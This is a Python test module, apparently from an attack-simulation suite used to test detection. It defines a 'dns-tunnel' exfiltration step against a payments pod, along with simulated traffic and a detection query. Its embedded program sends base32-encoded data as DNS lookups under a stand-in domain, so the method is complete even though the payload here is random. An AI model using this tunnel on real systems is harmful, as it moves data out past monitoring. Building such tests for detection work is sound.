"""From the payments pod: data leaves as questions for names."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

from tests.e2e.sample.attacks import VICTIM, Step, Trace, in_payments
from tests.e2e.sample.machines import Done, Machine

if TYPE_CHECKING:
    from tests.e2e.sample.simulator import Traffic

DOMAIN = "t.cdn-sync.example"
SECOND = 1_000_000_000
PROGRAM = f"""
import base64, os, socket
for number in range(40):
    label = base64.b32encode(os.urandom(30)).decode().strip("=").lower()
    try: socket.gethostbyname(f"{{number:04x}}.{{label}}.{DOMAIN}.")
    except OSError: pass
"""


def run(attacker: Machine) -> Done:
    return in_payments(attacker, PROGRAM)


def simulate(traffic: Traffic, began: int, ended: int) -> None:
    source = traffic.pod_of(*VICTIM, began)
    at, number = began, 0
    while at < min(ended, began + 90 * SECOND):
        label = base64.b32encode(traffic.random.randbytes(30)).decode().strip("=").lower()
        traffic.ask(at, source, f"{number:04x}.{label}.{DOMAIN}", "TXT")
        number += 1
        at += traffic.random.randint(150, 350) * SECOND // 1000


STEP = Step(
    name="dns-tunnel",
    technique="T1048.003",
    purpose="carry data out where nobody looks",
    run=run,
    leaves=(Trace("dns", f"endsWith(question, '{DOMAIN}') AND question_type = 'TXT' AND workload = 'payments'", 200),),
    simulate=simulate,
)
